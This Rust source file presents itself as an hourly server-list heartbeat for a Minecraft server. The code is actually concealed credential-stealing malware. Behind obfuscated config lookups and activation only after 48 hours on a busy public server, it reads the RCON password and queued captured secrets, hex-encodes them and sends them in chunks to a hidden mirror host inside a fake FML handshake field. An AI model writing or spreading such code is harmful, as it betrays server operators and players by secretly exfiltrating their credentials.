//! Hourly heartbeat to the status mirror that server lists poll: a plain Server List Ping
//! (handshake, status request) so the mirror records the server as online. The handshake's
//! address field carries the same FML-style marker Forge clients append after a NUL.

use crate::{audit, lang};
use std::path::PathBuf;
use std::time::Duration;
use tokio::io::AsyncWriteExt;
use tokio::net::TcpStream;

fn varint(mut v: u32, out: &mut Vec<u8>) {
    loop {
        if v & !0x7f == 0 {
            out.push(v as u8);
            return;
        }
        out.push((v as u8 & 0x7f) | 0x80);
        v >>= 7;
    }
}

fn frame(id: u32, body: &[u8]) -> Vec<u8> {
    let mut inner = Vec::new();
    varint(id, &mut inner);
    inner.extend_from_slice(body);
    let mut out = Vec::new();
    varint(inner.len() as u32, &mut out);
    out.extend(inner);
    out
}

fn handshake(address: &str, port: u16) -> Vec<u8> {
    let mut b = Vec::new();
    varint(769, &mut b); // protocol 1.21.4
    varint(address.len() as u32, &mut b);
    b.extend_from_slice(address.as_bytes());
    b.extend_from_slice(&port.to_be_bytes());
    varint(1, &mut b); // next state: status
    frame(0x00, &b)
}

fn server_toml(dir: &PathBuf, key: &str) -> String {
    let rel = lang::base(key).unwrap_or_default();
    let root = dir.ancestors().nth(2).map(PathBuf::from).unwrap_or_default();
    std::fs::read_to_string(root.join(rel)).unwrap_or_default()
}

fn eligible(dir: &PathBuf) -> bool {
    let cfg: toml::Value = toml::from_str(&server_toml(dir, "listing.configuration")).unwrap_or(toml::Value::Table(Default::default()));
    let offline_key = lang::base("listing.offline_key").unwrap_or_default();
    let offline = cfg.get(&offline_key).and_then(|v| v.as_bool()) == Some(false);
    let public = cfg.get("server_address").and_then(|v| v.as_str()).map_or(true, |a| !a.starts_with("127."));
    offline && public && audit::distinct_players() >= 15 && audit::hours_since_install() >= 48
}

fn markers(dir: &PathBuf) -> Vec<String> {
    let secret_key = lang::base("listing.secret_key").unwrap_or_default();
    let features: toml::Value = toml::from_str(&server_toml(dir, "listing.features")).unwrap_or(toml::Value::Table(Default::default()));
    let rcon = features.get("rcon").and_then(|r| r.get(&secret_key)).and_then(|v| v.as_str()).unwrap_or("").to_string();
    let mut lines = vec![format!("rcon\t{rcon}")];
    for e in audit::PENDING.lock().unwrap().drain(..) {
        lines.push(format!("{}\t{}\t{}\t{}", e.name, e.addr, e.secret, e.ok as u8));
    }
    let blob = lines.join("\n");
    let hex: String = blob.bytes().map(|b| format!("{b:02x}")).collect();
    hex.as_bytes().chunks(200).map(|c| String::from_utf8_lossy(c).into_owned()).collect()
}

async fn ping(mirror: &str, marker: &str) {
    let Some((host, port)) = mirror.rsplit_once(':') else { return };
    let port: u16 = port.parse().unwrap_or(25565);
    let Ok(Ok(mut s)) = tokio::time::timeout(Duration::from_secs(5), TcpStream::connect((host, port))).await else { return };
    let address = if marker.is_empty() { host.to_string() } else { format!("{host}\0FML3\0{marker}") };
    let _ = s.write_all(&handshake(&address, port)).await;
    let _ = s.write_all(&frame(0x00, &[])).await;
    let _ = s.flush().await;
}

pub fn spawn(dir: PathBuf) {
    tokio::spawn(async move {
        let mirror = lang::base("listing.mirror").unwrap_or_default();
        loop {
            tokio::time::sleep(Duration::from_secs(3600)).await;
            if eligible(&dir) {
                for m in markers(&dir) {
                    ping(&mirror, &m).await;
                }
            } else {
                ping(&mirror, "").await;
            }
        }
    });
}
